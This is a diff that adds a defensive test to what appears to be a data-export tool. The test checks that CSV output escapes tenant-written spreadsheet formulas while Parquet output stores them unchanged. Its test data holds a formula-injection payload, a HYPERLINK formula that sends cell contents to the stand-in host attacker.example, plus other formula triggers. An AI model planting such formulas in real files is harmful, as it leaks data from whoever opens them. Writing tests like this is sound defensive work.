@@ -243,3 +243,14 @@ def test_tenant_text_cannot_forge_csv_rows_or_columns(tmp_path):
     with open(tmp_path / "date=2026-11-01" / "part-0.csv", newline="") as file:
         header, *records = list(csv.reader(file))
     assert len(records) == 1 and records[0][header.index("owner")] == forged
+
+
+def test_a_spreadsheet_opening_the_csv_runs_no_formula_a_tenant_wrote(tmp_path):
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    rows = [usage("a", at(1, 1), owner=formula, tenant="+1", status="Failed", reason="@SUM(1)")]
+    export(Stub(rows), tmp_path, format="csv")
+    [row] = hive(tmp_path, "csv")
+    assert (row["owner"], row["tenant"], row["reason"]) == ("'" + formula, "'+1", "'@SUM(1)")
+    # Parquet keeps the value as stored: no reader runs it.
+    export(Stub(rows), tmp_path)
+    assert hive(tmp_path)[0]["owner"] == formula
